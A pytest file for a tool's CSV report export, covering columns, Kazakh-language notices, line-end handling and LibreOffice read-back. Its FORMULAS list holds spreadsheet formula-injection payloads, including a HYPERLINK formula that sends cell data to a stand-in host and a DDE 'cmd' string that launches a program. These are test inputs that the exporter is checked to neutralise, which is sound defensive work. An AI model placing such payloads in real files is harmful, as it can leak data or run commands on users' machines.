"""CSV: columns that stay, nothing that a spreadsheet runs, read back by others' readers."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import pytest
from msgspec import structs
from reported import asset, missed, mixed, report, written

from kzlabel.model import (
    AssetReport,
    Evidence,
    LabelKind,
    LabelReport,
    LabelState,
    NoticeReport,
    Signer,
)

COLUMNS = [
    "path", "media_type", "bytes", "sha256", "verdict", "origin", "integrity", "trust", "notice",
    "system", "provider", "signer", "evidence", "labels", "notices", "failed", "undetermined",
    "error",
]  # fmt: skip


def full(path: str = "a.jpg", text: str = "Жасанды интеллект жасаған") -> AssetReport:
    signer = Signer(name="Provider LLP", issuer="Root")
    labels = (
        LabelReport(
            kind=LabelKind.MANIFEST, scheme="c2pa", state=LabelState.TRUSTED, signer=signer,
            system="Model", provider="Provider LLP", evidence=Evidence.SIGNED,
        ),
        LabelReport(
            kind=LabelKind.METADATA, scheme="iptc", state=LabelState.UNSIGNED, system="Model",
            evidence=Evidence.STANDARD,
        ),
    )  # fmt: skip
    notice = NoticeReport(
        medium="visible", text=text, languages=("kk",), perceivable=True,
        code="kz.notice.perceivable",
    )  # fmt: skip
    row = asset(path)
    return structs.replace(
        row, media_type="image/jpeg", bytes=12, sha256="0" * 64, labels=labels, notices=(notice,)
    )


def read(*rows: AssetReport) -> list[dict[str, str]]:
    content = written("csv", report(*rows))
    assert content.startswith(b"\xef\xbb\xbfpath,")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_a_line_says_what_the_row_says() -> None:
    (line,) = read(full())
    assert list(line) == COLUMNS
    assert line == {
        "path": "a.jpg", "media_type": "image/jpeg", "bytes": "12", "sha256": "0" * 64,
        "verdict": "compliant", "origin": "ai-generated", "integrity": "intact",
        "trust": "trusted", "notice": "perceivable", "system": "Model",
        "provider": "Provider LLP", "signer": "Provider LLP", "evidence": "signed",
        "labels": "manifest trusted; metadata unsigned", "notices": "Жасанды интеллект жасаған",
        "failed": "", "undetermined": "", "error": "",
    }  # fmt: skip


def test_what_is_open_is_named_with_its_level_and_article() -> None:
    lines = {line["path"]: line for line in read(*mixed())}
    assert "kz.21-2.notice (must, 21(2))" in lines["broken"]["failed"]
    assert "kz.21-2.machine-readable (must, 21(2))" in lines["broken"]["failed"]
    assert "kz.21-2.machine-readable (must, 21(2))" in lines["doubtful"]["undetermined"]
    assert lines["b"]["error"].startswith("kz.error.os: b: ")
    assert lines["b"]["verdict"] == "undetermined"
    assert lines["b"]["origin"] == ""


FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)', "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    " =1", '"=1', "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "a;=1", "a; +1", 'a;"=1"', 'a;""=1',
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_nothing_is_a_formula(text: str, delimiter: str) -> None:
    """Whichever of the two a spreadsheet parts cells at."""
    content = written("csv", report(full(text, text), missed(text))).decode("utf-8-sig")
    cells = [
        cell for line in csv.reader(io.StringIO(content), delimiter=delimiter) for cell in line
    ]
    assert [
        cell
        for cell in cells
        if cell.strip(' \t\r\n"').startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))
    ] == []


def test_what_is_no_formula_stays_as_it_is() -> None:
    harmless = ["a=b", "a-b.jpg", "2026-01-18", "x@y", "a; b", "'quoted'"]
    assert [line["path"] for line in read(*map(full, harmless))] == harmless


def test_a_name_with_line_ends_is_on_one_line() -> None:
    content = written("csv", report(full('a\nb\r\nc\u2028d\u202e,"e"')))
    assert content.count(b"\n") == content.count(b"\r\n") == 2
    assert read(full('a\nb,"c"'))[0]["path"] == 'a\\nb,"c"'


@pytest.mark.slow
@pytest.mark.needs("soffice")
def test_libreoffice_reads_it_back(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    rows = (full('=1+1;"x",\n'), full("Сурет.jpg"), *mixed())
    source = tmp_path / "report.csv"
    source.write_bytes(written("csv", report(*rows)))
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation={(tmp_path / 'home').as_uri()}",
         "--convert-to", "xlsx", "--infilter=CSV:44,34,76", "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    sheet = openpyxl.load_workbook(tmp_path / "report.xlsx").active
    table = [[cell.value for cell in line] for line in sheet.iter_rows()]
    assert table[0] == COLUMNS
    assert len(table) == len(rows) + 1
    assert table[1][0] == '\'=1+1;"x",\\n'
    assert table[2][0] == "Сурет.jpg"
    assert table[2][COLUMNS.index("bytes")] == 12
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
